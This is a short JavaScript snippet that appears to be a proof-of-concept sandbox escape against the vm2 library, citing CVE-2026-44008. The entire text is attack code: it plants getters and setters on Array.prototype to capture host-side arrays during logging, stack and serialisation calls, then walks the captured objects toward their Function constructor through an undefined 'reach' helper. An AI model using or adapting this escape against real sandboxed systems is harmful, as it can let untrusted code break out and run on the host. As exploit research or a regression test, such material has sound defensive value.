// Getters on Array.prototype that see the arrays that the host works with.
// advisory: CVE-2026-44008 (vm2)
let held = null;
for (let i = 0; i < 3; i++) Object.defineProperty(Array.prototype, i, { configurable: true, get() { held = { thing: this, next: held }; return undefined; }, set(value) { held = { thing: this, next: held }; Object.defineProperty(this, i, { value, writable: true, configurable: true, enumerable: true }); } });
try { console.log('a', ['b'], { c: [1, 2] }); new Error('x').stack; JSON.stringify([1]); [1, 2].map((x) => x); structuredClone([1]); } finally { for (let i = 0; i < 3; i++) delete Array.prototype[i]; }
console.log('ATTEMPTED');
for (let n = 0; held && n < 20; held = held.next, n++) { const { thing } = held; if (thing && typeof thing === 'object') for (const value of Object.values(thing)) { try { reach(value, value?.constructor?.constructor); } catch { /* odd */ } } }
